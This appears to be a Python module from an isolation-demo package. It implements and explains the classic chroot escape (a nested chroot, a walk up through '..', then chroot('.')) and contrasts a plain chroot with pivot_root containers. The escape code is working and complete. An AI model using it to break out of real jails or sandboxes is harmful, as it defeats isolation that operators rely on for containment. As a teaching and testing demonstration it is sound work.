"""The classic chroot escape (man 2 chroot: "This call does not change the current working directory").

A process root enough to call chroot(2) (CAP_SYS_CHROOT) that is in a plain chroot:
    mkdir("esc"); chroot("esc")     its root is now esc/, but its working directory stays outside it
    chdir("..") again and again     `..` stops only at the process's root, which is no longer above it
    chroot(".")                     the real / of its mount namespace is its root again
Keeping a directory fd from before the chroot and fchdir(fd) to it does the same. pivot_root(2) does not
move a process's root inside one filesystem tree: it changes which mount is the namespace's root, and the
old one is unmounted (MNT_DETACH). Then the walk ends at the container's own /: there is nothing above it.
"""

from __future__ import annotations

import os
from typing import Any

from isodemo.inside.forked import errno_name, in_child

WALK = 64  # more `..` than any path here is deep

STEPS = [
    'chroot("JAIL"); chdir("/")',
    'mkdir("esc"); chroot("esc")',
    'chdir("..") x64; chroot(".")',
    'openat("MARKER")',
]


def read_result(path: str) -> dict[str, str | None]:
    """{"content": the file's text, "errno": None} or {"content": None, "errno": "ENOENT"}."""
    try:
        with open(path) as f:
            return {"content": f.read(), "errno": None}
    except OSError as error:
        return {"content": None, "errno": errno_name(error)}


def escape_walk(jail: str, target: str) -> dict[str, Any]:
    """In THIS process (call it in a child): be chrooted into `jail` as `chroot JAIL` leaves one, try to read
    `target`, escape, try again. What the walk reached is compared with the root it started from."""
    os.chroot(jail)
    os.chdir("/")
    jailed = read_result(target)
    start = os.stat("/")
    os.makedirs("esc", exist_ok=True)
    os.chroot("esc")  # the working directory (the jail's /) is now outside the root
    for _ in range(WALK):
        os.chdir("..")
    os.chroot(".")
    reached = os.stat("/")
    return {
        "jailed": jailed,
        "escaped": read_result(target),
        "moved": (reached.st_dev, reached.st_ino) != (start.st_dev, start.st_ino),
        "root_listing": sorted(os.listdir("/"))[:12],
    }


def attempt(jail: str, target: str) -> dict[str, Any]:
    """The plain chroot attempt, in a child of the calling process (a probe: `box.call(attempt, ...)`)."""
    return in_child(escape_walk, jail, target)
